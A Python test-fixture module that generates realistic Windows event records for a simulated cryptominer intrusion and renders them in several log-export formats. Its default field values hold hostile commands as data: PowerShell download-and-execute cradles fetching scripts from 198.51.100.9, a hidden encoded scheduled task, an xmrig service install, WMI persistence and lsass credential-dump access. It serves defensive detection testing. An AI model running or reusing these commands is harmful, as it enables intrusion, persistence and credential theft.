"""Realistic Windows events for tests and demo scenarios, rendered in the real export layouts.

An ``Event`` holds what Windows stores for a record (System values plus EventData or
UserData). Builders make the events an intrusion leaves — 4624/4625 logons, 4648, 4688
with command lines, 7045/4697 service installs, 4698 with its task XML, 4699, TaskScheduler
106, 5145 share access, Sysmon 1/3/6/10/22, 4104 script blocks, 1102, RDP (LSM 21, RCM 1149)
and WMI — and renderers write them as:

    to_xml(ev)          wevtutil qe LOG /f:xml (one <Event>, single-quoted attributes)
    export(evs, root)   a whole export, optionally wrapped in <Events>
    to_winlogbeat(ev)   Winlogbeat / Elastic Agent JSON (winlog.*, @timestamp)
    to_nxlog(ev)        NXLog im_msvistalog JSON (flat fields, local EventTime)
    to_evtx_json(ev)    the JSON pyevtx-rs hands out for an EVTX record
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape

NS = "http://schemas.microsoft.com/win/2004/08/events/event"
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}", "Security")
SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
          "Microsoft-Windows-Sysmon/Operational")
POWERSHELL = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
              "Microsoft-Windows-PowerShell/Operational")
SCM = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System")
SCHEDULER = ("Microsoft-Windows-TaskScheduler", "{de7b24ea-73c8-4a09-985d-5bdadcfa9017}",
             "Microsoft-Windows-TaskScheduler/Operational")
RCM = ("Microsoft-Windows-TerminalServices-RemoteConnectionManager", "{c76baa63-ae81-421c-b425-340b4b24157f}",
       "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational")
T0 = dt.datetime(2024, 3, 5, 2, 14, 7, 123456)


@dataclass
class Event:
    provider: str
    guid: str
    channel: str
    event_id: int
    data: dict[str, str] | list[str] = field(default_factory=dict)   # list = unnamed <Data>
    user_data: tuple[str, str, dict[str, str]] | None = None          # (element, xmlns, fields)
    computer: str = "WS01.corp.example"
    time: dt.datetime = T0
    record_id: int = 1000
    qualifiers: int | None = None
    user_sid: str | None = None
    version: int = 0
    task: int = 0
    keywords: str = "0x8020000000000000"
    process_id: int = 636


def _q(value: object) -> str:
    return escape(str(value), {"'": "&apos;"})


def _systemtime(t: dt.datetime) -> str:
    # Windows writes 100 ns ticks: seven fraction digits.
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"


def to_xml(ev: Event) -> str:
    eid = (f"<EventID Qualifiers='{ev.qualifiers}'>{ev.event_id}</EventID>" if ev.qualifiers is not None
           else f"<EventID>{ev.event_id}</EventID>")
    security = f"<Security UserID='{_q(ev.user_sid)}'/>" if ev.user_sid else "<Security/>"
    system = (f"<System><Provider Name='{_q(ev.provider)}' Guid='{ev.guid}'/>{eid}"
              f"<Version>{ev.version}</Version><Level>0</Level><Task>{ev.task}</Task><Opcode>0</Opcode>"
              f"<Keywords>{ev.keywords}</Keywords><TimeCreated SystemTime='{_systemtime(ev.time)}'/>"
              f"<EventRecordID>{ev.record_id}</EventRecordID><Correlation/>"
              f"<Execution ProcessID='{ev.process_id}' ThreadID='{ev.process_id + 64}'/>"
              f"<Channel>{_q(ev.channel)}</Channel><Computer>{_q(ev.computer)}</Computer>{security}</System>")
    if ev.user_data:
        name, xmlns, values = ev.user_data
        inner = "".join(f"<{k}>{_q(v)}</{k}>" for k, v in values.items())
        body = f"<UserData><{name} xmlns='{xmlns}'>{inner}</{name}></UserData>"
    elif isinstance(ev.data, list):
        body = "<EventData>" + "".join(f"<Data>{_q(v)}</Data>" for v in ev.data) + "</EventData>"
    else:
        items = (f"<Data Name='{k}'>{_q(v)}</Data>" if v != "" else f"<Data Name='{k}'/>"
                 for k, v in ev.data.items())
        body = "<EventData>" + "".join(items) + "</EventData>"
    return f"<Event xmlns='{NS}'>{system}{body}</Event>"


def export(events: list[Event], root: bool = False, declaration: bool = False) -> str:
    body = "\n".join(to_xml(e) for e in events)
    if root:
        body = f"<Events>\n{body}\n</Events>"
    if declaration:
        body = "<?xml version='1.0' encoding='UTF-8'?>\n" + body
    return body + "\n"


def _fields(ev: Event) -> dict[str, str]:
    if ev.user_data:
        return dict(ev.user_data[2])
    if isinstance(ev.data, list):
        return {f"param{i}": v for i, v in enumerate(ev.data, 1)}
    return dict(ev.data)


def _iso_ms(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def to_winlogbeat(ev: Event) -> dict[str, Any]:
    # Winlogbeat 8 writes ids as strings and the event's own time as @timestamp.
    winlog: dict[str, Any] = {
        "channel": ev.channel, "provider_name": ev.provider, "provider_guid": ev.guid,
        "event_id": str(ev.event_id), "record_id": str(ev.record_id), "computer_name": ev.computer,
        "process": {"pid": ev.process_id, "thread": {"id": ev.process_id + 64}},
        "api": "wineventlog", "opcode": "Info", "keywords": ["Audit Success"],
    }
    key = "user_data" if ev.user_data else "event_data"
    winlog[key] = _fields(ev) | ({"xml_name": ev.user_data[0]} if ev.user_data else {})
    if ev.user_sid:
        winlog["user"] = {"identifier": ev.user_sid, "type": "User"}
    return {"@timestamp": _iso_ms(ev.time), "agent": {"type": "winlogbeat", "version": "8.12.0"},
            "event": {"code": str(ev.event_id), "provider": ev.provider, "kind": "event"},
            "host": {"name": ev.computer.split(".")[0].lower()}, "winlog": winlog,
            "message": "rendered message text", "ecs": {"version": "8.0.0"}}


def to_nxlog(ev: Event, utc_offset_hours: int = -4, delay_s: int = 3) -> dict[str, Any]:
    # NXLog stamps EventTime/EventReceivedTime in the collector's local time, no zone;
    # Logstash adds @timestamp in UTC when it receives the record.
    local = ev.time + dt.timedelta(hours=utc_offset_hours)
    received = local + dt.timedelta(seconds=delay_s)
    out: dict[str, Any] = {
        "EventTime": local.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": ev.computer,
        "Keywords": -9223372036854775808, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2,
        "Severity": "INFO", "EventID": ev.event_id, "SourceName": ev.provider, "ProviderGuid": ev.guid,
        "Version": ev.version, "Task": ev.task, "OpcodeValue": 0, "RecordNumber": ev.record_id,
        "ExecutionProcessID": ev.process_id, "ThreadID": ev.process_id + 64, "Channel": ev.channel,
        "Message": "rendered message text", "Opcode": "Info",
        "EventReceivedTime": received.strftime("%Y-%m-%d %H:%M:%S"),
        "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
        "@timestamp": _iso_ms(ev.time + dt.timedelta(seconds=delay_s)), "@version": "1",
        "host": "wec.example", "port": 60122, "tags": ["demo"],
    }
    if ev.user_sid:
        out["UserID"] = ev.user_sid
    out.update(_fields(ev))
    return out


def to_evtx_json(ev: Event) -> dict[str, Any]:
    """The record as pyevtx-rs's ``records_json`` gives it: {event_record_id, timestamp, data}."""
    import orjson

    def attrs(**kw: Any) -> dict[str, Any]:
        return {"#attributes": kw}

    eid: Any = ev.event_id if ev.qualifiers is None else {"#attributes": {"Qualifiers": ev.qualifiers},
                                                          "#text": ev.event_id}
    system = {"Provider": attrs(Name=ev.provider, Guid=ev.guid), "EventID": eid, "Version": ev.version,
              "Level": 0, "Task": ev.task, "Opcode": 0, "Keywords": ev.keywords,
              "TimeCreated": attrs(SystemTime=ev.time.strftime("%Y-%m-%dT%H:%M:%S.%fZ")),
              "EventRecordID": ev.record_id, "Correlation": None,
              "Execution": attrs(ProcessID=ev.process_id, ThreadID=ev.process_id + 64),
              "Channel": ev.channel, "Computer": ev.computer,
              "Security": attrs(UserID=ev.user_sid) if ev.user_sid else None}
    event: dict[str, Any] = {"#attributes": {"xmlns": NS}, "System": system}
    if ev.user_data:
        name, xmlns, values = ev.user_data
        event["UserData"] = {name: {"#attributes": {"xmlns": xmlns}, **values}}
    elif isinstance(ev.data, list):
        event["EventData"] = {"Data": {"#text": ev.data if len(ev.data) > 1 else ev.data[0]}, "Binary": None}
    else:
        event["EventData"] = {k: (v or None) for k, v in ev.data.items()} or None
    return {"event_record_id": ev.record_id, "timestamp": _iso_ms(ev.time) + " UTC",
            "data": orjson.dumps({"Event": event}).decode()}


# --- builders ---------------------------------------------------------------------------------

def subject(user: str = "alice", logon_id: str = "0x2a9f1c3", sid: str = "S-1-5-21-1-2-3-1104",
            domain: str = "CORP") -> dict[str, str]:
    """The Subject* fields of a Security record: who did it, in which logon session."""
    return {"SubjectUserSid": sid, "SubjectUserName": user, "SubjectDomainName": domain,
            "SubjectLogonId": logon_id}


def logon(success: bool = True, user: str = "alice", ip: str = "203.0.113.77", port: int = 51234,
          logon_type: int = 3, sub_status: str = "0xC000006A", **kw: Any) -> Event:
    """4624 or 4625 as the Security log writes them (version 2 / 0 field sets)."""
    data = {"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": user,
            "TargetDomainName": "CORP"}
    if success:
        data |= {"TargetLogonId": "0x2a9f1c3", "LogonType": str(logon_type), "LogonProcessName": "NtLmSsp ",
                 "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI",
                 "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-",
                 "LmPackageName": "NTLM V2", "KeyLength": "128", "ProcessId": "0x0", "ProcessName": "-",
                 "IpAddress": ip, "IpPort": str(port), "ImpersonationLevel": "%%1833"}
    else:
        data |= {"Status": "0xC000006D", "FailureReason": "%%2313", "SubStatus": sub_status,
                 "LogonType": str(logon_type), "LogonProcessName": "NtLmSsp ",
                 "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI", "TransmittedServices": "-",
                 "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-",
                 "IpAddress": ip, "IpPort": str(port)}
    return Event(*SECURITY, 4624 if success else 4625, data, version=2 if success else 0, task=12544, **kw)


def explicit_logon(user: str = "svc_backup", server: str = "FS01.corp.example", **kw: Any) -> Event:
    data = {**subject("WS01$", "0x3e7", "S-1-5-18"), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TargetUserName": user, "TargetDomainName": "CORP", "TargetLogonGuid": "{0}",
            "TargetServerName": server, "TargetInfo": server, "ProcessId": "0x1f4",
            "ProcessName": r"C:\Windows\System32\svchost.exe", "IpAddress": "-", "IpPort": "-"}
    return Event(*SECURITY, 4648, data, task=12544, **kw)


def process_creation(image: str = r"C:\Windows\System32\cmd.exe",
                     command_line: str = r'cmd.exe /c "powershell -nop -w hidden -c IEX(iwr http://198.51.100.9/x.ps1)"',
                     pid: int = 0x1A2C, parent: str = r"C:\Windows\System32\services.exe",
                     user: str = "alice", **kw: Any) -> Event:
    data = {**subject(user), "NewProcessId": hex(pid), "NewProcessName": image,
            "TokenElevationType": "%%1936", "ProcessId": "0x2d4", "CommandLine": command_line,
            "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
            "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-16384"}
    return Event(*SECURITY, 4688, data, version=2, task=13312, **kw)


def service_install(name: str = "WinSysUpd",
                    image_path: str = r"C:\Windows\Temp\xmrig.exe --donate-level 1",
                    account: str = "LocalSystem", installer_sid: str = "S-1-5-21-1-2-3-500",
                    **kw: Any) -> Event:
    data = {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
            "StartType": "auto start", "AccountName": account}
    return Event(*SCM, 7045, data, qualifiers=16384, user_sid=installer_sid,
                 keywords="0x8080000000000000", **kw)


def task_xml(command: str, arguments: str = "", user_id: str = "S-1-5-18") -> str:
    args = f"\n      <Arguments>{escape(arguments)}</Arguments>" if arguments else ""
    return ('<?xml version="1.0" encoding="UTF-16"?>\n'
            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n'
            "  <RegistrationInfo><Author>CORP\\alice</Author></RegistrationInfo>\n"
            "  <Triggers><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition>"
            "<StartBoundary>2024-03-05T02:15:00</StartBoundary></TimeTrigger></Triggers>\n"
            f'  <Principals><Principal id="Author"><UserId>{user_id}</UserId></Principal></Principals>\n'
            f'  <Actions Context="Author">\n    <Exec>\n      <Command>{escape(command)}</Command>{args}\n'
            "    </Exec>\n  </Actions>\n</Task>")


def task_created(name: str = r"\Microsoft\Windows\Maintenance\SysUpd",
                 command: str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                 arguments: str = "-nop -w hidden -enc SQBFAFgA", content: str | None = None,
                 who: dict[str, str] | None = None, **kw: Any) -> Event:
    """4698; ``who`` (``subject(...)``) is the account and logon session that registered it."""
    data = {**(who or subject()), "TaskName": name,
            "TaskContent": content if content is not None else task_xml(command, arguments)}
    return Event(*SECURITY, 4698, data, version=1, task=12804, **kw)


def task_deleted(name: str = r"\Microsoft\Windows\Maintenance\SysUpd", who: dict[str, str] | None = None,
                 **kw: Any) -> Event:
    """4699: a task deleted (miners delete and re-add theirs, or a rival's)."""
    return Event(*SECURITY, 4699, {**(who or subject()), "TaskName": name}, version=1, task=12804, **kw)


def task_registered(name: str = r"\Microsoft\Windows\Maintenance\SysUpd", user: str = "CORP\\alice",
                    **kw: Any) -> Event:
    """TaskScheduler/Operational 106: the scheduler's own note of a registered task."""
    return Event(*SCHEDULER, 106, {"TaskName": name, "UserContext": user}, task=106,
                 keywords="0x8000000000000000", user_sid="S-1-5-18", **kw)


def service_install_security(name: str = "WinSysUpd", file_name: str = r"C:\Windows\Temp\xmrig.exe",
                             who: dict[str, str] | None = None, account: str = "LocalSystem",
                             **kw: Any) -> Event:
    """4697, the Security log's view of a new service (audit "Security System Extension")."""
    data = {**(who or subject()), "ServiceName": name, "ServiceFileName": file_name, "ServiceType": "0x10",
            "ServiceStartType": "3", "ServiceAccount": account}
    return Event(*SECURITY, 4697, data, task=12289, **kw)


def share_access(share: str = "ADMIN$", target: str = "xmrig.exe", ip: str = "203.0.113.77",
                 who: dict[str, str] | None = None, access: str = "%%4417", **kw: Any) -> Event:
    """5145: a file on a share checked for access (``%%4417`` = WriteData: a copy to ADMIN$)."""
    data = {**(who or subject()), "ObjectType": "File", "IpAddress": ip, "IpPort": "49811",
            "ShareName": f"\\\\*\\{share}", "ShareLocalPath": "\\??\\C:\\Windows",
            "RelativeTargetName": target, "AccessMask": "0x2", "AccessList": access}
    return Event(*SECURITY, 5145, data, task=12811, **kw)


def _sysmon(event_id: int, data: dict[str, str], **kw: Any) -> Event:
    defaults: dict[str, Any] = {"version": 5, "keywords": "0x8000000000000000", "user_sid": "S-1-5-18",
                                "task": event_id}
    return Event(*SYSMON, event_id, data, **(defaults | kw))


def sysmon_process(image: str = r"C:\Users\Public\svchosts.exe",
                   command_line: str = r"C:\Users\Public\svchosts.exe -o pool.minexmr.com:4444 -u 4Abc",
                   parent: str = r"C:\Windows\System32\cmd.exe",
                   parent_cmd: str = "cmd.exe /c start svchosts.exe", pid: int = 7212, **kw: Any) -> Event:
    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:07.120",
            "ProcessGuid": "{0fd50764-0001-0000-0000-000000001800}",
            "ProcessId": str(pid), "Image": image, "FileVersion": "-", "Description": "-", "Product": "-",
            "Company": "-", "OriginalFileName": "-", "CommandLine": command_line,
            "CurrentDirectory": "C:\\Users\\Public\\", "User": "CORP\\alice",
            "LogonGuid": "{0fd50764-0002-0000-0000-000000001800}", "LogonId": "0x2a9f1c3",
            "TerminalSessionId": "1", "IntegrityLevel": "High", "Hashes": "SHA256=" + "ab" * 32,
            "ParentProcessGuid": "{0fd50764-0003-0000-0000-000000001800}", "ParentProcessId": "4120",
            "ParentImage": parent, "ParentCommandLine": parent_cmd, "ParentUser": "CORP\\alice"}
    return _sysmon(1, data, **kw)


def sysmon_network(image: str = r"C:\Users\Public\svchosts.exe", src_ip: str = "10.0.0.15",
                   src_port: int = 49822, dst_ip: str = "198.51.100.23", dst_port: int = 4444,
                   dst_host: str = "-", **kw: Any) -> Event:
    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:09.500",
            "ProcessGuid": "{0fd50764-0001-0000-0000-000000001800}", "ProcessId": "7212", "Image": image,
            "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": src_ip, "SourceHostname": "WS01.corp.example", "SourcePort": str(src_port),
            "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": dst_ip,
            "DestinationHostname": dst_host, "DestinationPort": str(dst_port), "DestinationPortName": "-"}
    return _sysmon(3, data, **kw)


def sysmon_dns(query: str = "pool.minexmr.com", answers: str = "::ffff:198.51.100.23;",
               image: str = r"C:\Users\Public\svchosts.exe", **kw: Any) -> Event:
    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:08.900",
            "ProcessGuid": "{0fd50764-0001-0000-0000-000000001800}", "ProcessId": "7212",
            "QueryName": query, "QueryStatus": "0", "QueryResults": answers, "Image": image,
            "User": "CORP\\alice"}
    return _sysmon(22, data, **kw)


def sysmon_driver(image_loaded: str = r"C:\Users\Public\WinRing0x64.sys",
                  hashes: str = "SHA256=" + "11" * 32, signature: str = "Noriyuki MIYAZAKI",
                  **kw: Any) -> Event:
    """Sysmon 6, a kernel driver loaded (XMRig's WinRing0 for MSR access)."""
    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:10.000", "ImageLoaded": image_loaded,
            "Hashes": hashes, "Signed": "true", "Signature": signature, "SignatureStatus": "Valid"}
    return _sysmon(6, data, **kw)


def sysmon_access(source_image: str = r"C:\Windows\Temp\m.exe",
                  target_image: str = r"C:\Windows\system32\lsass.exe", granted_access: str = "0x1010",
                  source_pid: int = 7300, source_user: str = "NT AUTHORITY\\SYSTEM", **kw: Any) -> Event:
    """Sysmon 10, one process opening another (0x1010 on lsass: credential dumping)."""
    data = {"RuleName": "-", "UtcTime": "2024-03-05 02:14:11.000",
            "SourceProcessGUID": "{0fd50764-0004-0000-0000-000000001800}", "SourceProcessId": str(source_pid),
            "SourceThreadId": "6140", "SourceImage": source_image,
            "TargetProcessGUID": "{0fd50764-0005-0000-0000-000000001800}", "TargetProcessId": "668",
            "TargetImage": target_image, "GrantedAccess": granted_access,
            "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e",
            "SourceUser": source_user, "TargetUser": "NT AUTHORITY\\SYSTEM"}
    return _sysmon(10, data, **kw)


def script_block(text: str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/m.ps1')",
                 **kw: Any) -> Event:
    data = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
            "ScriptBlockId": "7a3c1f2e-1111-2222-3333-444455556666", "Path": ""}
    return Event(*POWERSHELL, 4104, data, version=1, task=2, keywords="0x0",
                 user_sid="S-1-5-21-1-2-3-1104", **kw)


def log_cleared(user: str = "alice", **kw: Any) -> Event:
    return Event("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", "Security", 1102,
                 user_data=("LogFileCleared", "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                            subject(user)), task=104, keywords="0x4020000000000000", **kw)


def rdp_logon(user: str = "CORP\\alice", address: str = "203.0.113.50", **kw: Any) -> Event:
    fields = {"User": user, "SessionID": "3", "Address": address}
    provider = "Microsoft-Windows-TerminalServices-LocalSessionManager"
    return Event(provider, "{5d896912-022d-40aa-a3a8-4fa5515c76d7}", provider + "/Operational", 21,
                 user_data=("EventXML", "Event_NS", fields), user_sid="S-1-5-18", **kw)


def rdp_auth(user: str = "administrator", domain: str = "CORP", address: str = "203.0.113.50",
             **kw: Any) -> Event:
    """RemoteConnectionManager 1149: RDP network authentication succeeded (before the session)."""
    fields = {"Param1": user, "Param2": domain, "Param3": address}
    return Event(*RCM, 1149, user_data=("EventXML", "Event_NS", fields), user_sid="S-1-5-20", **kw)


def wmi_binding(command: str = r'powershell.exe -nop -c "iex(gc C:\ProgramData\u.ps1)"',
                **kw: Any) -> Event:
    mof = command.replace("\\", "\\\\").replace('"', '\\"')
    cause = ("Binding EventFilter: \ninstance of __EventFilter\n{\n\tEventNamespace = \"root\\\\cimv2\";\n"
             "\tName = \"Updater\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60\";\n"
             "\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n"
             f"\tCommandLineTemplate = \"{mof}\";\n\tName = \"Updater\";\n}};\n")
    fields = {"Namespace": "//./root/subscription", "ESS": "Updater",
              "CONSUMER": 'CommandLineEventConsumer="Updater"', "PossibleCause": cause}
    return Event("Microsoft-Windows-WMI-Activity", "{1418ef04-b0b4-4623-bf7e-d74ab47bbdaa}",
                 "Microsoft-Windows-WMI-Activity/Operational", 5861,
                 user_data=("Operation_ESStoConsumerBinding", "http://manifests.microsoft.com/win/2006/windows/WMI",
                            fields), **kw)


def intrusion(computer: str = "WS01.corp.example", attacker: str = "203.0.113.77") -> list[Event]:
    """A miner intrusion as one host's logs tell it: spray, logon, service, task, miner, cleanup."""
    t = T0
    evs: list[Event] = [logon(False, user=u, ip=attacker, time=t + dt.timedelta(seconds=i))
                        for i, u in enumerate(["administrator", "admin", "alice", "alice"])]
    evs += [logon(True, user="alice", ip=attacker, time=t + dt.timedelta(seconds=9)),
            process_creation(time=t + dt.timedelta(seconds=20)),
            service_install(time=t + dt.timedelta(seconds=25)),
            task_created(time=t + dt.timedelta(seconds=30)),
            sysmon_dns(time=t + dt.timedelta(seconds=31)),
            sysmon_process(time=t + dt.timedelta(seconds=32)),
            sysmon_network(time=t + dt.timedelta(seconds=33)),
            script_block(time=t + dt.timedelta(seconds=35)),
            log_cleared(time=t + dt.timedelta(seconds=60))]
    for n, e in enumerate(evs):
        e.computer = computer
        e.record_id = 5000 + n
    return evs
